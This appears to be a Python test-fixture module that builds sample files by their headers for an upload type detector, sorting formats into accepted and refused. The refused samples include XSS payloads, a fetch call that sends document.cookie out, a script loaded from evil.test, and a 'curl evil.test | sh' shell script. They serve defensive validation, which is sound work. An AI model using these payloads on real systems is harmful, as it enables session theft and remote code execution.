"""Small files of every kind an upload may hold, built byte by byte from their formats' headers
(the detection reads headers, so a header and a little padding is a faithful sample)."""

from __future__ import annotations

import io
import struct
import zipfile

import openpyxl

PAD = bytes(range(256)) * 2


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def iso_media(brand: bytes) -> bytes:
    """An ISO base media file (MP4, M4A, 3GP, MOV, HEIC) of ``brand``."""
    return box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand + b"isom") + box(b"mdat", PAD)


def ogg(packet: bytes) -> bytes:
    """The first Ogg page, holding one packet (``OpusHead``, ``\\x01vorbis``...)."""
    header = b"OggS\x00\x02" + b"\x00" * 8 + b"\x01\x00\x00\x00" + b"\x00" * 8
    return header + bytes([1, len(packet)]) + packet


def cfb(streams: list[str]) -> bytes:
    """A minimal OLE compound file (MS-CFB v3, 512-byte sectors) holding empty ``streams``:
    sector 0 is the FAT, sectors 1.. the directory (4 entries a sector)."""
    entries = [("Root Entry", 5)] + [(name, 2) for name in streams]
    dir_sectors = (len(entries) + 3) // 4
    fat = [0xFFFFFFFD] + [i + 2 for i in range(dir_sectors - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    directory = b""
    for i, (name, kind) in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        child = 1 if kind == 5 and len(entries) > 1 else 0xFFFFFFFF
        right = i + 1 if kind == 2 and i + 1 < len(entries) else 0xFFFFFFFF
        directory += encoded.ljust(64, b"\x00") + struct.pack(
            "<HBBIII16sIQQIQ",
            len(encoded),
            kind,
            1,
            0xFFFFFFFF,
            right,
            child,
            b"\x00" * 16,
            0,
            0,
            0,
            0xFFFFFFFE,
            0,
        )
    directory = directory.ljust(dir_sectors * 512, b"\x00")
    return header + struct.pack("<128I", *fat) + directory


def ooxml(main: str, extra: tuple[str, ...] = ()) -> bytes:
    """An Office Open XML package: ``[Content_Types].xml`` and the main part ``main``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("_rels/.rels", "<Relationships/>")
        for name in (main, *extra):
            z.writestr(name, "<x/>")
    return buf.getvalue()


def zip_of(*names: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name in names:
            z.writestr(name, "x")
    return buf.getvalue()


def xlsx() -> bytes:
    """A real workbook, as openpyxl writes it."""
    wb = openpyxl.Workbook()
    wb.active.append(["nome", "telefone"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


#: name -> (content, the extension zapx stores it under, its WhatsApp message type)
ACCEPTED = {
    "jpeg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PAD, "jpg", "image"),
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + PAD, "png", "image"),
    "mp4": (iso_media(b"isom"), "mp4", "video"),
    "mp4 (mp42)": (iso_media(b"mp42"), "mp4", "video"),
    "3gp": (iso_media(b"3gp5"), "3gp", "video"),
    "m4a": (iso_media(b"M4A "), "m4a", "audio"),
    "aac (ADTS)": (b"\xff\xf1\x50\x80\x02\x1f\xfc" + PAD, "aac", "audio"),
    "mp3": (b"\xff\xfb\x90\x64" + PAD, "mp3", "audio"),
    "mp3 with ID3": (
        b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + b"\xff\xf3\x80\xc4" + PAD,
        "mp3",
        "audio",
    ),
    "amr": (b"#!AMR\n" + PAD, "amr", "audio"),
    "ogg opus": (
        ogg(b"OpusHead\x01\x02\x38\x01\x80\xbb\x00\x00\x00\x00\x00") + PAD,
        "ogg",
        "audio",
    ),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "pdf", "document"),
    "text": ("Promoção de sábado!\r\nAté 50% de desconto.\n".encode(), "txt", "document"),
    "text with BOM": (b"\xef\xbb\xbfLista de pre\xc3\xa7os", "txt", "document"),
    "text starting MZ": (b"MZ Im\xc3\xb3veis: visite", "txt", "document"),
    "doc": (cfb(["WordDocument", "1Table", "\x05SummaryInformation"]), "doc", "document"),
    "xls": (cfb(["Workbook", "\x05SummaryInformation"]), "xls", "document"),
    "xls (BIFF5)": (cfb(["Book"]), "xls", "document"),
    "ppt": (cfb(["PowerPoint Document", "Current User"]), "ppt", "document"),
    "docx": (ooxml("word/document.xml"), "docx", "document"),
    "xlsx": (xlsx(), "xlsx", "document"),
    "pptx": (ooxml("ppt/presentation.xml"), "pptx", "document"),
}

#: name -> (content, the words the refusal must say)
REFUSED = {
    "html": (b"<!DOCTYPE html><html><script>alert(document.cookie)</script>", "HTML"),
    "html, lower case, after blanks": (b"\n\n  <html><body onload=x()>", "HTML"),
    "html after text": (b"Oferta!\n<script src=//evil.test/x.js></script>", "HTML"),
    "html with a BOM": (b"\xef\xbb\xbf<script>alert(1)</script>", "HTML"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    "svg with XML declaration": (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "SVG",
    ),
    "xml": (b'<?xml version="1.0"?><data/>', "XML"),
    "js function": (b"function steal() { fetch('/x?c=' + document.cookie) }", "JavaScript"),
    "js iife": (b"(function(){var a=1})();", "JavaScript"),
    "js minified": (b"!function(e){e()}(window);", "JavaScript"),
    "js use strict": (b"'use strict';\nconst a = 1;", "JavaScript"),
    "js module": (b"import { x } from './x.js';\nx();", "JavaScript"),
    "js const": (b"const token = localStorage.getItem('t');", "JavaScript"),
    "elf": (b"\x7fELF\x02\x01\x01\x00" + PAD, "executable (ELF)"),
    "pe": (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + PAD, "executable (Windows"),
    "mach-o 64": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + PAD, "executable (Mach-O)"),
    "mach-o 32 big-endian": (b"\xfe\xed\xfa\xce" + PAD, "executable (Mach-O)"),
    "mach-o universal": (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + PAD, "Mach-O universal"),
    "shell script": (b"#!/bin/sh\ncurl evil.test | sh\n", "script (#!)"),
    "env script": (b"#!/usr/bin/env python3\nimport os\n", "script (#!)"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + PAD, "WebP"),
    "gif": (b"GIF89a\x01\x00\x01\x00" + PAD, "GIF"),
    "wav": (b"RIFF\x24\x00\x00\x00WAVEfmt " + PAD, "WAV"),
    "bmp": (b"BM\x36\x00\x00\x00\x00\x00\x00\x00\x36\x00" + PAD, "BMP"),
    "mov": (iso_media(b"qt  "), "QuickTime"),
    "heic": (iso_media(b"heic"), "HEIF"),
    "webm": (b"\x1aE\xdf\xa3\x9fB\x86\x81\x01" + PAD, "WebM"),
    "ogg vorbis": (ogg(b"\x01vorbis\x00\x00\x00\x00\x02"), "Vorbis"),
    "flac": (b"fLaC\x00\x00\x00\x22" + PAD, "FLAC"),
    "amr-wb": (b"#!AMR-WB\n" + PAD, "AMR-WB"),
    "zip": (zip_of("a.txt", "b.exe"), "ZIP archive"),
    "zip with a content types part but no main part": (zip_of("[Content_Types].xml"), "ZIP"),
    "jar": (zip_of("META-INF/MANIFEST.MF", "a.class"), "Java archive"),
    "apk": (zip_of("AndroidManifest.xml", "classes.dex"), "APK"),
    "odt": (zip_of("mimetype", "content.xml"), "OpenDocument"),
    "docm": (ooxml("word/document.xml", ("word/vbaProject.bin",)), "macros"),
    "xlsm": (ooxml("xl/workbook.xml", ("xl/vbaProject.bin",)), "macros"),
    "damaged zip": (b"PK\x03\x04" + PAD, "damaged ZIP"),
    "msi (OLE without an Office stream)": (cfb(["\x05SummaryInformation", "Binary"]), "OLE"),
    "encrypted office": (cfb(["EncryptionInfo", "EncryptedPackage"]), "password-protected"),
    "doc with macros": (cfb(["WordDocument", "Macros"]), "macros"),
    "damaged OLE": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600, "damaged OLE"),
    "gzip": (b"\x1f\x8b\x08\x00" + PAD, "gzip"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + PAD, "RAR"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + PAD, "7-Zip"),
    "rtf": (b"{\\rtf1\\ansi hello}", "RTF"),
    "windows-1252 text": ("Promoção".encode("cp1252"), "not UTF-8"),
    "utf-16 text": ("Promoção".encode("utf-16"), "UTF-16"),
    "text with a NUL": (b"hello\x00world", "binary data"),
    "text with controls": (b"hello\x1b[31mworld", "binary data"),
    "random bytes": (bytes(range(1, 255)) * 8, "binary data"),
}
